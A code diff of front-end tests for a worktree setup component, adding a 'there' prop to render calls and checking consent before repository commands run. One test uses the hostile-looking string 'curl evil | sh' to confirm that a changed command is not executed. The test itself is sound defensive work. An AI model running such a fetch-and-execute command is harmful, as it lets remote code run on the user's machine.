@@ -41,6 +41,7 @@ const worktree = {
 test('a worktree that came up is one line, which opens to its steps', () => {
   render(
     <Setup
+      there
       context={context}
       state={{ worktree, setup: [step('base'), step('add')], activity: 'idle', items: [] }}
     />
@@ -61,7 +62,7 @@ test('a command of the repository is shown word by word and runs when it was agr
   };
   actions.setupInfo.mockResolvedValue({ setup, recipe: null, run: null, tail: '' });
   const steps = [step('setup', { status: 'needs_consent', detail: 'make deps', seconds: null })];
-  render(<Setup context={context} state={{ worktree, setup: steps, activity: 'idle', items: [] }} />);
+  render(<Setup context={context} there state={{ worktree, setup: steps, activity: 'idle', items: [] }} />);
   expect(screen.getByText('make deps')).toBeTruthy();
   fireEvent.click(screen.getByRole('button', { name: 'Run it' }));
   await vi.waitFor(() => {
@@ -80,7 +81,7 @@ test('a command that is another by now is not run', async () => {
   };
   actions.setupInfo.mockResolvedValue({ setup, recipe: null, run: null, tail: '' });
   const steps = [step('setup', { status: 'needs_consent', detail: 'make deps', seconds: null })];
-  render(<Setup context={context} state={{ worktree, setup: steps, activity: 'idle', items: [] }} />);
+  render(<Setup context={context} there state={{ worktree, setup: steps, activity: 'idle', items: [] }} />);
   fireEvent.click(screen.getByRole('button', { name: 'Run it' }));
   await screen.findByText('The command has changed: curl evil | sh');
   expect(actions.runSetup).not.toHaveBeenCalled();
@@ -99,7 +100,7 @@ test('a worktree that was not made says why, and can be asked for again or other
     retryable: true
   };
   const state = { worktree: failed, setup: steps, activity: 'failed' as const, items: [failure] };
-  render(<Setup context={context} state={state} />);
+  render(<Setup context={context} there state={state} />);
   expect(screen.getByText('The worktree could not be made: the disk is full')).toBeTruthy();
   fireEvent.click(screen.getByRole('button', { name: 'Try again' }));
   expect(actions.retryWorktree).toHaveBeenCalledOnce();
